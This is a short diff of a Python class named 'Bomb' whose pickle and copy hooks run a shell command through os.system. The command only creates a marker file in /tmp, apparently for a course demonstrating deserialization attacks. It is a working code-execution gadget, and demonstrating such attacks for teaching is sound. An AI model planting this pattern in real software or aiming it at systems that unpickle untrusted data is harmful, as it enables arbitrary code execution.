@@ -5,10 +5,10 @@ import os
 
 class Bomb:
     def __reduce__(self):
-        return os.system, ("touch /tmp/llmcourse-attack-left-this",)
+        return os.system, ("cd /tmp; touch llmcourse-attack-left-this",)
 
     def __deepcopy__(self, memo):
-        return os.system("touch /tmp/llmcourse-attack-left-this")
+        return os.system("cd /tmp; touch llmcourse-attack-left-this")
 
     __getstate__ = __copy__ = __deepcopy__
 
